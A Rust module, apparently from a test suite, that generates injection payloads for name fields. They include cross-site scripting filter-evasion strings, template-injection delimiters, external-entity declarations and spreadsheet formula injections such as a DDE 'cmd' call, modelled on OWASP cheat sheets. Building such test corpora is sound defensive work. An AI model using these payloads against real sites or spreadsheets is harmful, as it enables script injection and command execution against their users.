//! Names that want to be more than names: markup, scripts, addresses, templates and formulas.
//!
//! Families after OWASP's cheat sheets (filter evasion, CSV injection), short enough for the name of a team. What runs
//! of them anywhere sets the global variable `h`, or asks for something that the page's policy forbids.

/// What is to run.
const CALLS: [&str; 5] = ["h=1", "self.h=1", "top.h=1", "h=1//", "[h=1]"];

/// Elements that have events of their own.
const TAGS: [&str; 14] = [
    "svg",
    "body",
    "img src",
    "video src",
    "audio src",
    "input autofocus",
    "details open",
    "iframe",
    "object",
    "embed",
    "marquee",
    "select",
    "style",
    "math",
];

/// Attributes that run what they say.
const EVENTS: [&str; 8] = [
    "onload", "onerror", "onfocus", "ontoggle", "onclick", "onstart", "onscroll", "onblur",
];

/// What ends the place that a text stands in.
const ENDS: [&str; 12] = [
    "\">",
    "'>",
    "`>",
    "-->",
    "]]>",
    "*/",
    "</title>",
    "</style>",
    "</script>",
    "</desc>",
    "</text>",
    "</metadata>",
];

/// What may come after that.
const BEGINNINGS: [&str; 5] = [
    "<svg onload=h=1>",
    "<img src onerror=h=1>",
    "<script>h=1</script>",
    "<a href=javascript:h=1>a",
    "<b onclick=h=1>b",
];

/// Addresses that are programs.
const SCHEMES: [&str; 9] = [
    "javascript:",
    "JaVaScRiPt:",
    "java\tscript:",
    "\u{1}javascript:",
    "vbscript:",
    "data:text/html,",
    "data:image/svg+xml,",
    "&#106;avascript:",
    "feed:javascript:",
];

/// Signs between which templates run what they find.
const TEMPLATES: [(&str, &str); 8] = [
    ("{{", "}}"),
    ("${", "}"),
    ("<%=", "%>"),
    ("#{", "}"),
    ("[[", "]]"),
    ("{%", "%}"),
    ("@{", "}"),
    ("<?", "?>"),
];

/// How a formula can begin.
const SIGNS: [&str; 19] = [
    "=",
    "+",
    "-",
    "@",
    "＝",
    "＋",
    "－",
    "＠",
    "\t=",
    "\r=",
    "\n=",
    "\"=",
    " =",
    "\u{a0}=",
    "\u{3000}=",
    "\u{200b}=",
    "\u{feff}+",
    "\"\"-",
    " @",
];

/// How it may go on.
const FORMULAS: [&str; 6] = [
    "1+1",
    "cmd|' /C calc'!A0",
    "HYPERLINK(\"h\")",
    "SUM(A1:A9)",
    "IMPORTXML(1)",
    "DDE(1;2;3)",
];

/// Some that are of no family.
const OTHERS: [&str; 16] = [
    "&lt;script&gt;h=1&lt;/script&gt;",
    "%3Cscript%3Eh=1%3C/script%3E",
    "\\u003cscript\\u003eh=1",
    "＜script＞h=1＜/script＞",
    "<scr\u{0}ipt>h=1</script>",
    "<<script>h=1//<</script>",
    "<script/src=//h>",
    "<link rel=import href=//h>",
    "<meta http-equiv=refresh content=0>",
    "<base href=//h>",
    "<!DOCTYPE x SYSTEM 'h'>",
    "<!ENTITY x SYSTEM 'h'>&x;",
    "<?xml-stylesheet href='h'?>",
    "<![CDATA[<script>h=1</script>]]>",
    "<use href='data:image/svg+xml,h'/>",
    "\u{202e}<script>h=1</script>\u{202c}",
];

/// All of them, each once.
pub(crate) fn all() -> Vec<String> {
    let mut all: Vec<String> = OTHERS.map(String::from).to_vec();
    for (tag, event) in pairs(&TAGS, &EVENTS) {
        all.push(format!("<{tag} {event}=h=1>"));
        let tag = tag.split(' ').next().unwrap_or(tag);
        all.push(format!(
            "<{}/{}=h=1//",
            tag.to_uppercase(),
            event.to_uppercase()
        ));
    }
    all.extend(pairs(&ENDS, &BEGINNINGS).map(|(end, begin)| format!("{end}{begin}")));
    for (quote, event) in pairs(&["\"", "'", "`"], &EVENTS) {
        all.push(format!("{quote} {event}=h=1 autofocus {quote}"));
    }
    for (scheme, call) in pairs(&SCHEMES, &CALLS) {
        all.push(format!("{scheme}{call}"));
        all.push(format!("<a href={scheme}{call}>"));
    }
    for ((begin, end), call) in pairs(&TEMPLATES, &CALLS) {
        all.push(format!("{begin}{call}{end}"));
    }
    all.extend(pairs(&SIGNS, &FORMULAS).map(|(sign, formula)| format!("{sign}{formula}")));
    all.sort();
    all.dedup();
    all
}

fn pairs<'a, A: Copy, B: Copy>(
    first: &'a [A],
    second: &'a [B],
) -> impl Iterator<Item = (A, B)> + 'a {
    first
        .iter()
        .flat_map(|one| second.iter().map(|other| (*one, *other)))
}
